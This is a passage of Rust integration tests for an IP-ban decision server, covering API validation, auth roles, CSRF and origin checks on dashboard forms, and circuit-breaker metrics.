    // Nor can a form: the API takes JSON only.
    let r = post(WRITE)
        .form(&[("action", "ban"), ("target", "45.155.205.7")])
        .send()
        .await
        .unwrap();
    assert!(r.status().is_client_error(), "{}", r.status());
    assert!(s
        .store
        .decision_log()
        .after(0, 10)
        .await
        .unwrap()
        .is_empty());

    let r = post(WRITE).json(&ban).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::CREATED);
    let made: Value = r.json().await.unwrap();
    assert_eq!(
        made["origin"],
        serde_json::json!({ "by": "person", "user": "api" })
    );
    assert_eq!(made["target"], "45.155.205.7/32");
    let r = s
        .http
        .post(url(&s, "/api/v1/decisions"))
        .basic_auth("alice", Some("correct horse battery"))
        .json(&serde_json::json!({ "action": "revoke", "revokes": made["id"] }))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::CREATED);
    let revoke: Value = r.json().await.unwrap();
    assert_eq!(revoke["origin"]["user"], "alice");

    // Bad requests say what was wrong.
    for (body, says) in [
        (
            serde_json::json!({ "target": "45.155.205.7" }),
            "say what to decide",
        ),
        (
            serde_json::json!({ "action": "ban", "target": "45.0.0.0/8" }),
            "wider than a /16",
        ),
        (
            serde_json::json!({ "action": "ban", "target": "not-an-ip" }),
            "invalid target",
        ),
        (
            serde_json::json!({ "action": "unban", "target": "45.155.205.7", "for": "1h" }),
            "acts at once",
        ),
        (
            serde_json::json!({ "action": "revoke", "revokes": 99 }),
            "no decision #99",
        ),
    ] {
        let r = post(WRITE).json(&body).send().await.unwrap();
        assert_eq!(r.status(), StatusCode::BAD_REQUEST, "{body}");
        let text = r.text().await.unwrap();
        assert!(text.contains(says), "{body}: {text}");
    }
    let r = post(WRITE)
        .json(&serde_json::json!({ "action": "ban", "target": "45.155.205.7", "extra": 1 }))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::BAD_REQUEST);
    let said: Value = r.json().await.unwrap();
    assert!(
        said["error"]
            .as_str()
            .unwrap()
            .contains("unknown field `extra`"),
        "{said}"
    );

    // Everyone who may read sees them.
    let r = s
        .http
        .get(url(&s, "/api/v1/decisions"))
        .bearer_auth(READ)
        .send()
        .await
        .unwrap();
    let listed: Value = r.json().await.unwrap();
    assert_eq!(listed.as_array().unwrap().len(), 2);
    let r = s
        .http
        .get(url(&s, "/api/v1/decisions?active=true"))
        .bearer_auth(READ)
        .send()
        .await
        .unwrap();
    assert_eq!(r.json::<Value>().await.unwrap(), serde_json::json!([]));
}

#[actix_web::test]
async fn dashboard_forms_decide_and_refuse_other_sites() {
    let s = deciding().await;
    let page = |auth: reqwest::RequestBuilder| async move {
        auth.send().await.unwrap().text().await.unwrap()
    };
    let ip_page = format!("{}/ip/45.155.205.7", s.base);
    // Readers see no form.
    let html = page(s.http.get(&ip_page).bearer_auth(READ)).await;
    assert!(!html.contains("name=\"csrf\""), "{html}");
    let html = page(
        s.http
            .get(&ip_page)
            .basic_auth("alice", Some("correct horse battery")),
    )
    .await;
    let token = html
        .split("name=\"csrf\" value=\"")
        .nth(1)
        .and_then(|rest| rest.split('"').next())
        .expect("the login sees the form")
        .to_owned();
    assert!(
        html.contains("Ban everywhere")
            && html.contains("Unban everywhere")
            && html.contains(">Allow<")
    );

    let no_redirect = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    let submit = |origin: Option<&str>, csrf: &str| {
        let mut r = no_redirect
            .post(format!("{}/decisions", s.base))
            .basic_auth("alice", Some("correct horse battery"))
            .form(&[
                ("action", "ban"),
                ("target", "45.155.205.7"),
                ("for", "2h"),
                ("reason", "seen everywhere"),
                ("csrf", csrf),
                ("back", "/ip/45.155.205.7"),
            ]);
        if let Some(origin) = origin {
            r = r.header("Origin", origin);
        }
        r.send()
    };
    for (origin, csrf, why) in [
        (Some("http://evil.example"), token.as_str(), "another site"),
        (None, token.as_str(), "says where it comes from"),
        (
            Some(s.base.as_str()),
            "0".repeat(64).as_str(),
            "out of date",
        ),
        (Some(s.base.as_str()), "", "out of date"),
    ] {
        let r = submit(origin, csrf).await.unwrap();
        assert_eq!(r.status(), StatusCode::FORBIDDEN, "{why}");
        assert!(r.text().await.unwrap().contains(why), "{why}");
    }
    assert!(s
        .store
        .decision_log()
        .after(0, 10)
        .await
        .unwrap()
        .is_empty());

    let r = submit(Some(s.base.as_str()), &token).await.unwrap();
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    assert_eq!(r.headers()["location"], "/ip/45.155.205.7");
    let made = s.store.decision_log().after(0, 10).await.unwrap();
    assert_eq!(made.len(), 1);
    assert_eq!(
        made[0].origin,
        aegis_core::decision::Origin::Person {
            user: "alice".into()
        }
    );
    assert_eq!(made[0].reason, "seen everywhere");

    // The address page and the decisions page show it, with who and when.
    let html = page(s.http.get(&ip_page).bearer_auth(READ)).await;
    assert!(
        html.contains("seen everywhere") && html.contains("in force"),
        "{html}"
    );
    let html = page(
        s.http
            .get(format!("{}/decisions", s.base))
            .bearer_auth(READ),
    )
    .await;
    assert!(
        html.contains("alice") && html.contains("In force (1)"),
        "{html}"
    );
}

#[actix_web::test]
async fn an_open_circuit_breaker_shows_on_the_decisions_page_and_in_metrics() {
    let store = connect(&StorageUrl::parse("sqlite::memory:").unwrap())
        .await
        .unwrap();
    let share = aegis_core::share::SharePolicy::from_settings(&aegis_core::ShareSettings {
        enabled: true,
        per_minute: Some(1),
        ..Default::default()
    })
    .unwrap();
    let s = Server::sharing(store, Auth::default(), share);
    for host in ["web1", "web2"] {
        s.store
            .record(&ban("45.155.205.7", "sshd", host, Duration::minutes(1)))
            .await
            .unwrap();
    }
    let decision = aegis_core::decision::Decision::by_policy(
        aegis_core::decision::parse_target("45.155.205.7").unwrap(),
        "share",
        "web1",
        "ban:1".into(),
    );
    s.store.decision_log().decide(&decision).await.unwrap();
    let (_, html) = s.text("/decisions").await;
    assert!(html.contains("Circuit breaker open for web1"), "{html}");
    assert!(!html.contains("Circuit breaker open for web2"));
    let (_, metrics) = s.text("/metrics").await;
    assert!(
        metrics.contains("aegis_share_breaker_open{host=\"web1\"} 1"),
        "{metrics}"
    );
    assert!(
        metrics.contains("aegis_share_breaker_open{host=\"web2\"} 0"),
        "{metrics}"
    );
    assert!(metrics.contains("aegis_decisions_in_force 1"), "{metrics}");
}
